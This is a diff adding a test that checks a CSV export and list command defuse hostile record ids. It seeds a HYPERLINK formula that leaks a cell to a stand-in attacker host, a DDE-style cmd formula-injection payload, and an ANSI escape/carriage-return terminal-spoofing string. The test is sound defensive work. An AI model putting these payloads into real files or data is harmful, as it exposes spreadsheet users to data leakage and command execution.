@@ -21,6 +21,7 @@ import { decide, loadPolicies, type Policy } from "../../../functions/policy/ind
 import { LOCAL_CREDENTIALS } from "../../../local/createLocalClients.js";
 import { type DynamoDbLocal, startDynamoDbLocal } from "../../../local/startDynamoDbLocal.js";
 import { ReviewAnswerError, ReviewConflictError } from "../../../operations/outcomes/index.js";
+import { parseCsv } from "../../support/parseCsv.js";
 
 const POLICIES = fileURLToPath(new URL("../../../policies/", import.meta.url));
 
@@ -298,6 +299,39 @@ describe("decisions outcomes (DynamoDB Local)", () => {
     );
     assert.match(rows[1] ?? "", /^ticket-routing,t-2,fallback,/);
     assert.match(rows[1] ?? "", /,"ticket t-2, ""quoted"", with a comma"$/);
+  });
+
+  it("exports ids that are spreadsheet formulas as text, and lists ids with ESC and CR inert", async () => {
+    const table = await seeded();
+    const tableName = table[1] ?? "";
+    const hostile = [
+      '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "t-9\r\u001b[2Kdecided TOTALLY-LEGIT",
+    ];
+    for (const [index, id] of hostile.entries()) {
+      const at = `2026-12-01T11:00:0${index}.000Z`;
+      const stored = outcomeOf(policy, id, at, { billing: 0.3, triage: 0.45 });
+      await doc.send(new PutCommand({ TableName: tableName, Item: stored }));
+    }
+    const csv = join(dir, `hostile-${tables}.csv`);
+
+    const exported = await capture().command.run(["export", ...table, "--format", "csv", "--out", csv]);
+    const listed = capture();
+    await listed.command.run(["list", ...table]);
+
+    assert.equal(exported, 0);
+    const rows = parseCsv(await readFile(csv, "utf8"));
+    const ids = rows.slice(1).map((row) => row[1] ?? "");
+    assert.ok(ids.includes(`'${hostile[0]}`), "the HYPERLINK id is the text behind a quote mark");
+    assert.ok(ids.includes(`'${hostile[1]}`), "the @SUM id is the text behind a quote mark");
+    assert.deepEqual(
+      rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+      [],
+      "no cell a spreadsheet would read as a formula",
+    );
+    assert.doesNotMatch(listed.stdout().replaceAll("\n", ""), /\p{Cc}/u, "no ESC or CR reaches the terminal");
+    assert.match(listed.stdout(), /t-9\\r\\x1b\[2Kdecided TOTALLY-LEGIT/);
   });
 
   it("exports reviewed outcomes as labelled data that calibrate reads, with the temperature undone", async () => {
